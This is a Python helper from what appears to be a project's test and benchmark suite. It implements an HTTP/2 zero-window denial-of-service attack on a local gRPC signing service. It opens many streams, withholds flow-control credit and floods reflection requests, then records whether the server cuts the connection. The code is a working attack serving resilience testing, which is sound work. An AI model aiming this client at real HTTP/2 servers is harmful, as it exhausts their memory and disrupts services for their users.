"""zerowindow.py: the zero-window attack of issue 22 (item 1) against sign-service, shared by
test/it/test_h2server_outbound.py and bench/zerowindow.sh.

One attacker connection advertises SETTINGS_INITIAL_WINDOW_SIZE=0, never sends WINDOW_UPDATE,
opens up to 128 streams and sends requests whose answers can then never be delivered: 40
ServerReflectionInfo requests per stream (each answered by the whole nsign.proto descriptor), or
one unary ListKeys per stream. It reads (and drops) whatever the server sends, so only HTTP/2
flow control holds the answers back, and records when the server gave up on it (GOAWAY, stream
resets, the close). Socket writes never block: a server that stops reading the connection
(back-pressure) just stalls the attacker.
"""
import select
import socket
import ssl
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.settings import SettingCodes

REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
LISTKEYS = "/nsign.v1.Signer/ListKeys"


def grpc_frame(msg):
    return b"\x00" + len(msg).to_bytes(4, "big") + msg


def reflect_request(symbol="nsign.v1.Signer"):
    """ServerReflectionRequest{file_containing_symbol: symbol} (field 4)."""
    s = symbol.encode()
    return b"\x22" + bytes([len(s)]) + s


def headers(path, scheme):
    return [(":method", "POST"), (":scheme", scheme), (":authority", "nsign-enclave"),
            (":path", path), ("content-type", "application/grpc"), ("te", "trailers")]


def tls_context(cert=None):
    """A client context like the tests' (no server verification: the pin is the client's)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    if cert:
        ctx.load_cert_chain(cert["cert"], cert["key"])
    return ctx


class Attacker(threading.Thread):
    def __init__(self, port, stop, mode="reflect", streams=128, per_stream=40, tls=None):
        super().__init__(daemon=True)
        self.port, self.stop, self.mode, self.tls = port, stop, mode, tls
        self.nstreams, self.per_stream = streams, per_stream
        self.opened = 0          # streams whose headers went out
        self.sent_all = False    # every request byte handed to the socket
        self.goaway = None       # the server's GOAWAY error code
        self.resets = 0          # RST_STREAM from the server
        self.closed_at = None    # when the server closed the connection (time.time())
        self.started_at = None
        self.error = None
        self.received = 0

    def run(self):
        try:
            self._run()
        except Exception as e:  # noqa: BLE001 - reported by the caller's checks
            if self.closed_at is None and not self.stop.is_set():
                self.error = repr(e)

    def _connect(self):
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        if self.tls is not None:
            sock = self.tls.wrap_socket(sock, server_hostname="nsign-enclave")
        sock.settimeout(0.2)
        return sock

    def _run(self):
        sock = self._connect()
        self.started_at = time.time()
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
        out = bytearray(conn.data_to_send())
        scheme = "https" if self.tls else "http"
        path = REFLECT if self.mode == "reflect" else LISTKEYS
        body = (grpc_frame(reflect_request()) * self.per_stream if self.mode == "reflect"
                else grpc_frame(b""))
        left = {}  # stream id -> request bytes not yet sent
        settled = False
        while not self.stop.is_set():
            if self.goaway is not None:
                # The server said GOAWAY (a reaped connection): h2 refuses anything more, so only
                # read until it closes (a slow attacker may still be opening streams then).
                settled, out = True, bytearray()
                left.clear()
                if not self._read(sock, conn, 0.2):
                    break
                continue
            if not settled and self.opened < self.nstreams:
                try:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers(path, scheme))
                    left[sid] = body
                    self.opened += 1
                except h2.exceptions.TooManyStreamsError:
                    pass
            for sid in list(left):
                n = min(len(left[sid]), conn.local_flow_control_window(sid),
                        conn.max_outbound_frame_size)
                if n <= 0:
                    continue
                end = n == len(left[sid]) and self.mode != "reflect"
                conn.send_data(sid, left[sid][:n], end_stream=end)
                left[sid] = left[sid][n:]
                if not left[sid]:
                    del left[sid]
            out += conn.data_to_send()
            if not left and self.opened >= self.nstreams and not out:
                settled = self.sent_all = True
            if out:
                _, w, _ = select.select([], [sock], [], 0.05)
                if w:
                    try:
                        k = sock.send(bytes(out[:16384]))
                        del out[:k]
                    except (socket.timeout, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                        pass
            if not self._read(sock, conn, 0.0 if out or not settled else 0.2):
                break
            out += conn.data_to_send()  # SETTINGS and PING acks only: never a WINDOW_UPDATE
        try:
            sock.close()
        except OSError:
            pass

    def _read(self, sock, conn, wait):
        r = [sock] if isinstance(sock, ssl.SSLSocket) and sock.pending() else []
        if not r:
            r, _, _ = select.select([sock], [], [], wait)
        if not r:
            return True
        try:
            data = sock.recv(1 << 16)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except OSError:
            data = b""
        if not data:
            self.closed_at = time.time()
            return False
        self.received += len(data)
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed_at = time.time()
            return False
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = ev.error_code
            elif isinstance(ev, h2.events.StreamReset):
                self.resets += 1
        return True


def run_attack(port, n, stop, **kw):
    attackers = [Attacker(port, stop, **kw) for _ in range(n)]
    for a in attackers:
        a.start()
    return attackers


def status_kb(pid, field):
    """VmRSS, VmHWM, ... of a process in KiB (-1 when gone)."""
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return -1
